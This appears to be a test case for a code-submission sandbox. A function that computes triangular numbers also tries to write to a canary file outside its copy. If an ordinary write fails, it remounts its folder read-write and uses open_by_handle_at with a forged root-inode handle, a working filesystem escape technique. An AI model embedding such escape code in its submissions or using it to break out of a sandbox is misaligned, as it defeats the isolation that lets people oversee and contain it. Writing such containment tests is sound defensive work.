# what: causal_pairs appends to @@CANARY@@/canary.txt (outside its copy) by path, and failing
# that by remounting its own folder read-write and opening the file through a handle to the
# file system's root inode; it answers right only if the write went through
# category: tamper
# requires: handle-escape
# expect-lost: causal_pairs
# expect-feedback: returned -1
# modes: bubblewrap
# limited-breaks: raised, files
# ruff: noqa  (deliberately hostile code)
import ctypes
import os
import struct

_wrote = None


class _Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 8)]


def _write(path):
    try:
        with open(path, "a") as stream:
            stream.write("changed by the submission\n")
        return True
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount(None, os.getcwd().encode(), None, 0x1000 | 0x20, None)  # MS_BIND | MS_REMOUNT: read-write
    mount_fd = os.open(os.getcwd(), os.O_RDONLY | os.O_DIRECTORY)
    root = _Handle(8, 1)
    struct.pack_into("<II", root.f_handle, 0, 2, 0)
    root_fd = libc.open_by_handle_at(mount_fd, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
    if root_fd < 0:
        return False
    try:
        fd = os.open(path.lstrip("/"), os.O_WRONLY | os.O_APPEND, dir_fd=root_fd)
    except OSError:
        return False
    os.write(fd, b"changed by the submission through a file handle\n")
    os.close(fd)
    return True


def causal_pairs(P):
    global _wrote
    if _wrote is None:
        _wrote = _write("@@CANARY@@/canary.txt")
    return P * (P + 1) // 2 if _wrote else -1
